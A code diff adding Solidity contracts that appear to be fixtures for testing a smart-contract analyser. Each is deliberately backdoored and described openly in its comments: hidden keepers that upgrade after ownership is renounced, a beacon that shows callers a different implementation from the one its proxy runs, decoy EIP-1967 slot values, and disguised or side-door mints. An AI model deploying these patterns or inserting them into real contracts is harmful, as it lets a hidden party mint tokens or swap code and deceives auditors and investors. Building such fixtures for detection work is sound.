@@ -129,3 +129,228 @@ contract BackdoorTimelock is CompoundShapedTimelock {
         return ret;
     }
 }
+
+/// An initialisable token for proxies with an owner and a mint under another name (`reward`).
+contract RewardableToken {
+    string public name;
+    string public symbol;
+    uint8 public constant decimals = 18;
+    uint256 public totalSupply;
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+    bool private initialized;
+    address public owner;
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed owner, address indexed spender, uint256 value);
+
+    function initialize(string memory name_, string memory symbol_, uint256 supply, address holder) external {
+        require(!initialized, "already initialized");
+        initialized = true;
+        name = name_;
+        symbol = symbol_;
+        owner = holder;
+        totalSupply = supply;
+        balanceOf[holder] = supply;
+        emit Transfer(address(0), holder, supply);
+    }
+
+    function reward(address to, uint256 amount) external {
+        require(msg.sender == owner, "not the owner");
+        totalSupply += amount;
+        balanceOf[to] += amount;
+        emit Transfer(address(0), to, amount);
+    }
+
+    function transfer(address to, uint256 value) external returns (bool) {
+        _move(msg.sender, to, value);
+        return true;
+    }
+
+    function approve(address spender, uint256 value) external returns (bool) {
+        allowance[msg.sender][spender] = value;
+        emit Approval(msg.sender, spender, value);
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 value) external returns (bool) {
+        uint256 allowed = allowance[from][msg.sender];
+        if (allowed != type(uint256).max) {
+            require(allowed >= value, "ERC20: insufficient allowance");
+            allowance[from][msg.sender] = allowed - value;
+        }
+        _move(from, to, value);
+        return true;
+    }
+
+    function _move(address from, address to, uint256 value) private {
+        require(balanceOf[from] >= value, "ERC20: transfer amount exceeds balance");
+        balanceOf[from] -= value;
+        balanceOf[to] += value;
+        emit Transfer(from, to, value);
+    }
+}
+
+/// A beacon with exactly OpenZeppelin UpgradeableBeacon's functions and layout (owner slot 0, implementation slot 1)
+/// whose owner renounced, while a hard-coded keeper can still upgrade: owner() = 0 is a lie about who controls it.
+contract HiddenUpgraderBeacon {
+    address private _owner;
+    address private _implementation;
+    address private immutable keeper;
+
+    constructor(address implementation_, address keeper_) {
+        _owner = msg.sender;
+        _implementation = implementation_;
+        keeper = keeper_;
+    }
+
+    function implementation() external view returns (address) {
+        return _implementation;
+    }
+
+    function owner() external view returns (address) {
+        return _owner;
+    }
+
+    function upgradeTo(address newImplementation) external {
+        require(msg.sender == _owner || msg.sender == keeper, "not allowed");
+        _implementation = newImplementation;
+    }
+
+    function renounceOwnership() external {
+        require(msg.sender == _owner, "not the owner");
+        _owner = address(0);
+    }
+
+    function transferOwnership(address newOwner) external {
+        require(msg.sender == _owner, "not the owner");
+        _owner = newOwner;
+    }
+}
+
+/// A beacon that gives its proxy one implementation and everyone else another: the proxy (set once) runs `real`,
+/// any other caller of implementation() is shown `shown`. Its owner renounced.
+contract TwoFacedBeacon {
+    address public owner;
+    address public proxy;
+    address private real;
+    address private shown;
+
+    constructor(address real_, address shown_) {
+        owner = msg.sender;
+        real = real_;
+        shown = shown_;
+    }
+
+    function setProxy(address proxy_) external {
+        require(msg.sender == owner && proxy == address(0), "once");
+        proxy = proxy_;
+    }
+
+    function implementation() external view returns (address) {
+        return msg.sender == proxy || proxy == address(0) ? real : shown;
+    }
+
+    function renounceOwnership() external {
+        require(msg.sender == owner, "not the owner");
+        owner = address(0);
+    }
+}
+
+/// A ProxyAdmin with exactly OpenZeppelin v5's functions and owner slot, whose owner renounced, while a hard-coded
+/// keeper can still upgrade the proxies it administers.
+contract HiddenUpgraderProxyAdmin {
+    string public constant UPGRADE_INTERFACE_VERSION = "5.0.0";
+    address private _owner;
+    address private immutable keeper;
+
+    constructor(address keeper_) {
+        _owner = msg.sender;
+        keeper = keeper_;
+    }
+
+    function owner() external view returns (address) {
+        return _owner;
+    }
+
+    function upgradeAndCall(address proxy, address implementation, bytes memory) external payable {
+        require(msg.sender == _owner || msg.sender == keeper, "not allowed");
+        (bool ok, ) = proxy.call(abi.encodeWithSignature("upgradeTo(address)", implementation));
+        require(ok, "upgrade");
+    }
+
+    function renounceOwnership() external {
+        require(msg.sender == _owner, "not the owner");
+        _owner = address(0);
+    }
+
+    function transferOwnership(address newOwner) external {
+        require(msg.sender == _owner, "not the owner");
+        _owner = newOwner;
+    }
+}
+
+/// NOT a proxy: its own code never delegates. It writes a clean contract's address into the EIP-1967 implementation
+/// slot and the PROXIABLE (EIP-1822) slot, so a reader that trusts the slots analyses the clean code, while its own
+/// `reward` (owner only) mints.
+contract DecoySlotToken is BaseToken {
+    constructor(uint256 supply, address decoy) {
+        _init("Decoy Slots", "DCY", supply, msg.sender);
+        assembly {
+            sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, decoy)
+            sstore(0xc5f16f0fcc639fa48a6947836d9850f504798523bf8c9a3a87d5876cf622bcf7, decoy)
+        }
+    }
+
+    function reward(address to, uint256 amount) external onlyOwner {
+        _mint(to, amount);
+    }
+}
+
+/// An EIP-1967 proxy of a plain token whose OWN code keeps a side door: `sync` (only its stored keeper) credits any
+/// wallet in the implementation's storage (InitializablePlainToken: totalSupply slot 2, balanceOf slot 3): a mint
+/// the implementation's functions do not show.
+contract SideDoorProxy {
+    bytes32 private constant IMPLEMENTATION_SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
+    bytes32 private constant KEEPER_SLOT = keccak256("sidedoor.keeper");
+
+    constructor(address implementation, address keeper, bytes memory data) {
+        bytes32 k = KEEPER_SLOT;
+        assembly {
+            sstore(IMPLEMENTATION_SLOT, implementation)
+            sstore(k, keeper)
+        }
+        (bool ok, ) = implementation.delegatecall(data);
+        require(ok, "init");
+    }
+
+    function sync(address to, uint256 amount) external {
+        bytes32 k = KEEPER_SLOT;
+        address keeper;
+        assembly {
+            keeper := sload(k)
+        }
+        require(msg.sender == keeper, "keeper");
+        bytes32 credit = keccak256(abi.encode(to, uint256(3)));
+        assembly {
+            sstore(2, add(sload(2), amount))
+            sstore(credit, add(sload(credit), amount))
+        }
+    }
+
+    fallback() external payable {
+        assembly {
+            let implementation := sload(IMPLEMENTATION_SLOT)
+            calldatacopy(0, 0, calldatasize())
+            let ok := delegatecall(gas(), implementation, 0, calldatasize(), 0, 0)
+            returndatacopy(0, 0, returndatasize())
+            switch ok
+            case 0 {
+                revert(0, returndatasize())
+            }
+            default {
+                return(0, returndatasize())
+            }
+        }
+    }
+}
